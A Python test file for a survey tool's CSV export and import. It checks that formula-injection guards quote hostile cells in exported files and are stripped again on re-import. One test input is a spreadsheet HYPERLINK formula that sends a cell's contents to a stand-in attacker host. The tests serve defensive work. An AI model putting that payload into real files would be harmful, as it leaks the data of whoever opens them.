"""The formula guard of CSV exports comes off when the product reads its own exports back:
export -> import gives the answers as typed, hostile ones included (issue 13)."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from s3stresstest.campaign import read_responses
from s3stresstest.store import Store
from s3stresstest.transfer import read_wide, write_long_csv, write_wide_csv
from s3stresstest.transfer.into_store import import_into_campaign
from s3stresstest.transfer.safe import _NUMBER, TRIGGERS, csv_cell, unguard, unguard_frame
from s3stresstest.web.operations import answers_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "-foo",
    "@x",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "'-3",
    "+",
]

# texts built to hit the guard: quotes, then maybe a trigger, then anything (numbers included)
formula_like = st.builds(
    lambda quotes, lead, rest: "'" * quotes + lead + rest,
    st.integers(0, 3),
    st.sampled_from(["", *TRIGGERS, "'"]),
    st.one_of(st.text(max_size=8), st.from_regex(r"[0-9.eE+-]{1,6}", fullmatch=True)),
)


@given(st.one_of(st.text(), formula_like))
def test_unguard_undoes_csv_cell(text):
    assert unguard(csv_cell(text)) == text


@given(st.one_of(st.text(), formula_like))
def test_a_guarded_cell_never_starts_with_a_trigger(text):
    cell = csv_cell(text)
    assert not cell.startswith(TRIGGERS) or _NUMBER.fullmatch(cell)  # a plain number is no formula


def test_unguard_takes_off_only_the_guard():
    assert csv_cell("'=x") == "''=x"  # already looks guarded: one more quote, else reading it back loses one
    assert [unguard(v) for v in ("'=x", "''=x", "'abc", "'-3", "'", "-3", "=x", 5)] == [
        "=x",
        "'=x",
        "'abc",
        "'-3",
        "'",
        "-3",
        "=x",
        5,
    ]


def test_unguard_frame_leaves_line_numbers_and_plain_cells():
    df = pd.DataFrame({"value": ["'=x", "ok", "'-3"], "_line": [2, 3, 4]}, dtype=object)
    out = unguard_frame(df)
    assert out["value"].tolist() == ["=x", "ok", "'-3"] and out["_line"].tolist() == [2, 3, 4]
    assert df["value"].tolist() == ["'=x", "ok", "'-3"]  # the input is not changed


def hostile_responses(tiny_responses: pd.DataFrame) -> pd.DataFrame:
    """The tiny responses with one hostile open answer per respondent row of item open1."""
    rows = []
    for k, text in enumerate(HOSTILE):
        rows.append((f"h{k}", "ITC1", "policy_maker", "open1", text))
        rows.append((f"h{k}", "ITC1", "policy_maker", "q1", "yes"))
    extra = pd.DataFrame(rows, columns=tiny_responses.columns)
    return pd.concat([tiny_responses, extra], ignore_index=True)


@pytest.fixture
def tiny_responses():
    rows = [
        ("r1", "ITC1", "policy_maker", "q1", "yes"),
        ("r1", "ITC1", "policy_maker", "open1", "fine"),
        ("r2", "DE2", "company", "q1", "dk"),
    ]
    return pd.DataFrame(rows, columns=["respondent_id", "region", "stakeholder_group", "item", "value"])


def open_answers(df: pd.DataFrame) -> dict[str, str]:
    rows = df[(df["item"] == "open1") & (df["value"] != "")]
    return dict(zip(rows["respondent_id"], rows["value"], strict=True))


def test_long_csv_round_trip_keeps_hostile_answers(tiny_instrument, tiny_responses, tmp_path):
    df = hostile_responses(tiny_responses)
    path = write_long_csv(df, tmp_path / "long.csv")
    assert "'" + HOSTILE[0] in path.read_text(encoding="utf-8").replace('""', '"')  # guarded in the file
    back = read_responses(path, tiny_instrument)
    assert open_answers(back) == open_answers(df)


def test_wide_csv_round_trip_keeps_hostile_answers(tiny_instrument, tiny_responses, tmp_path):
    df = hostile_responses(tiny_responses)
    back = read_wide(write_wide_csv(df, tiny_instrument, tmp_path / "wide.csv"), tiny_instrument)
    assert open_answers(back) == open_answers(df)


@pytest.mark.parametrize("kind", ["long", "wide"])
def test_store_export_import_round_trip(tiny_instrument, tiny_responses, tmp_path, kind):
    """A campaign's own CSV export (as the admin page downloads it) imported into a campaign of
    another database: the same answers."""
    regions = pd.DataFrame({"region": ["ITC1", "DE2"], "name": ["Piemonte", "Bayern"]})
    df = hostile_responses(tiny_responses)
    stores = [Store.open(f"sqlite:///{tmp_path / name}") for name in ("a.db", "b.db")]
    try:
        cids = []
        for st_ in stores:
            cid = st_.create_campaign("A", st_.add_instrument(tiny_instrument), languages=["en"])
            st_.add_regions(cid, regions)
            cids.append(cid)
        stores[0].import_responses(cids[0], df.assign(_line=range(2, len(df) + 2)), source="test")
        body, _type, filename = answers_export(stores[0], stores[0].get_campaign(cids[0]), kind)  # the admin's button
        assert b"'" + HOSTILE[0].encode().replace(b'"', b'""') in body  # guarded in the file
        import_into_campaign(stores[1], cids[1], kind, body, filename)
        assert open_answers(stores[1].responses(cids[1])) == open_answers(df)
    finally:
        for st_ in stores:
            st_.close()
